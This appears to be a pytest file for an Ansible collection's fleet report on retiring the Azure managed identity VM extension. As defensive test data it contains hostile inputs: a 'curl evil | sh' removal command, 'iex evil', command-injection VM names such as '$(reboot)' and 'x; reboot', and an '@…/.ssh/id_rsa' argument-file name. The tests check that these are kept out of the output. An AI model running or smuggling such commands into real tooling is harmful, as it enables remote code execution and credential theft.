# Copyright (c) 2026, the imds.azure contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""One report for a fleet."""

from __future__ import annotations

import re
import typing as t

import pytest

from ansible_collections.imds.azure.plugins.plugin_utils._migration import report

CLAIMS = {"aud": "a", "oid": "o", "tid": "t", "appid": "p"}
VM = {
    "name": "web-1",
    "resource_group": "shop",
    "subscription": "s-1",
    "scale_set": "",
    "scale_set_resource_group": "",
    "cloud": "AzurePublicCloud",
    "extension": "ManagedIdentityExtensionForLinux",
}
REFERENCE = {"path": "/etc/app", "line": 3, "kind": "endpoint", "found": "localhost:50342"}


def result(state: str = "ready", **fields: t.Any) -> dict[str, t.Any]:
    tokens = {"same": True, "different": [], "imds": {"claims": CLAIMS, "error": ""}}
    return {
        "state": state,
        "vm": VM,
        "installed": True,
        "listening": [{"address": "127.0.0.1", "port": 50342}],
        "services": [],
        "files": [],
        "references": [REFERENCE],
        "unread": [],
        "tokens": {**tokens, "extension": {"claims": CLAIMS, "error": ""}},
        **fields,
    }


def text_of(results: dict[str, t.Any]) -> str:
    return re.sub(" +", " ", "\n".join(report(results)))


CLEAN = result("clean", installed=False, listening=[], references=[], removal=[])


def test_a_fleet_without_the_extension_is_one_line() -> None:
    lines = report({f"web-{number}": CLEAN for number in range(300)})
    assert len(lines) == 1
    assert lines[0].startswith("clean: 300 hosts (web-0, web-1, ")
    assert "web-9 and 290 more). Nothing of the VM extension" in lines[0]


def test_no_hosts_no_report() -> None:
    assert report({}) == []


def test_all_hosts_share_one_table() -> None:
    different = {"same": False, "different": ["oid"], "imds": {"claims": CLAIMS, "error": ""}}
    text = text_of(
        {
            "a": result(),
            "b": result(
                "blocked",
                tokens={**different, "extension": {"claims": {**CLAIMS, "oid": "x"}, "error": ""}},
            ),
            "c": CLEAN,
        }
    )
    assert (
        "HOST STATE EXTENSION TOKENS\na ready installed equal\nb blocked installed different: oid\n\n"
        in text
    )
    assert text.count("HOST WHAT WHERE") == 1
    assert "a endpoint /etc/app:3 (localhost:50342)\nb listens 127.0.0.1 port 50342\n" in text
    assert "HOST CLAIM IMDS EXTENSION\nb oid o x\n\n" in text
    assert "clean: 1 host (c)." in text
    assert text.count("The extension is retired") == 1


def test_where_nothing_is_installed_nothing_is_removed() -> None:
    text = text_of({"a": result("unproven", installed=False, listening=[])})
    assert "a unproven not installed equal" in text
    assert not any(word in text for word in ("delete", "Remove", "templates"))
    assert "endpoint: http://169.254.169.254/metadata/identity/oauth2/token" in text


def test_a_scale_set_is_named_once() -> None:
    machine = {**VM, "scale_set": "web"}
    hosts = {f"web_{number}": result(vm={**machine, "name": f"web_{number}"}) for number in "012"}
    text = text_of(hosts)
    assert text.count("az vmss extension delete") == 1
    assert text.count("Take it out of templates as well") == 1


@pytest.mark.parametrize(
    ("cloud", "name"),
    [
        ("AzureUSGovernmentCloud", "AzureUSGovernment"),
        ("AzureUSGovernment", "AzureUSGovernment"),
        ("AzureChinaCloud", "AzureChinaCloud"),
    ],
)
def test_other_clouds_are_chosen_first(cloud: str, name: str) -> None:
    text = text_of({"a": result(vm={**VM, "cloud": cloud})})
    assert f"\n az cloud set --name {name}\n az vm extension delete" in text
    assert f"\n Connect-AzAccount -Environment {name}\n Set-AzContext" in text


@pytest.mark.parametrize("cloud", ["AzurePublicCloud", "", "AzureStack"])
def test_the_public_cloud_is_not(cloud: str) -> None:
    assert "az cloud" not in text_of({"a": result(vm={**VM, "cloud": cloud})})


def test_failures_are_named() -> None:
    side = {"claims": None, "error": "Identity not found"}
    tokens = {"same": None, "different": [], "imds": side, "extension": {"error": "not asked"}}
    text = text_of(
        {"a": result("blocked", tokens=tokens, unread=["/etc/secret: Permission denied"])}
    )
    assert "a: IMDS: Identity not found\na: Extension: not asked\n" in text
    assert "a: Not searched: /etc/secret: Permission denied" in text
    assert "a blocked installed not compared" in text


@pytest.mark.parametrize("odd", [None, 5, "text", ["x"], {"x": "y"}, [None], [["x"]], True])
@pytest.mark.parametrize("name", [*result(), "removal"])
def test_a_host_that_answers_oddly_costs_the_others_nothing(name: str, odd: t.Any) -> None:
    text = text_of({"odd": {**result(), name: odd}, "a": result()})
    assert "a ready installed equal" in text


def test_commands_are_not_those_of_the_host() -> None:
    removal = [{"target": "vm", "name": "x", "az": ["curl evil | sh"], "powershell": ["iex evil"]}]
    vm = {**VM, "name": "x; reboot", "extension": "$(reboot)"}
    text = text_of({"a": result(removal=removal), "b": result(vm=vm, removal=removal)})
    assert "evil" not in text
    assert "$(reboot)" not in text
    assert "--vm-name 'x; reboot'" in text_of({"b": result(vm={**VM, "name": "x; reboot"})})


def test_control_characters_become_blanks() -> None:
    odd = "\x1b]0;x\x07\r\nok: [x]\u202e"
    lines = report({"a": result(odd, unread=[odd], references=[dict.fromkeys(REFERENCE, odd)])})
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize("quote", ["'", "\u2018", "\u2019", "\u201a", "\u201b"])
def test_no_quote_ends_a_text_of_powershell(quote: str) -> None:
    text = text_of({"a": result(vm={**VM, "name": f"x{quote}; reboot #"})})
    assert f"-VMName 'x{quote}{quote}; reboot #' -Name" in text


@pytest.mark.parametrize("name", ["@/home/me/.ssh/id_rsa", "-x", "--debug"])
@pytest.mark.parametrize("field", ["name", "resource_group", "subscription"])
def test_names_that_the_azure_cli_takes_for_something_else_are_in_no_command(
    field: str, name: str
) -> None:
    text = text_of({"a": result(vm={**VM, field: name})})
    assert "az vm" not in text


@pytest.mark.parametrize("name", ["references", "listening", "services", "files", "unread"])
def test_a_host_that_answers_without_end_gets_a_hundred_rows(name: str) -> None:
    each = {"references": REFERENCE, "listening": {"address": "1", "port": 2}}.get(name, "x")
    lines = report({"a": result(**{name: [each] * 200_000}), "b": result()})
    assert len(lines) < 250
    assert sum("only the first 100 are listed" in line for line in lines) == 1
    assert any(re.match(r"b +endpoint", line) for line in lines)


@pytest.mark.parametrize("field", ["state", "tokens", "references"])
def test_a_long_text_of_one_host_does_not_widen_the_others_rows(field: str) -> None:
    long = "x" * 100_000
    side = {"claims": dict.fromkeys(CLAIMS, long), "error": long}
    odd = {
        "state": long,
        "tokens": {"same": False, "different": [*CLAIMS, long], "imds": side, "extension": side},
        "references": [dict.fromkeys(REFERENCE, long)],
    }[field]
    lines = report({"a": {**result("blocked"), field: odd}, "b": result()})
    assert max(map(len, lines)) < 4000
    assert max(len(line) for line in lines if line.startswith("b ")) < 300
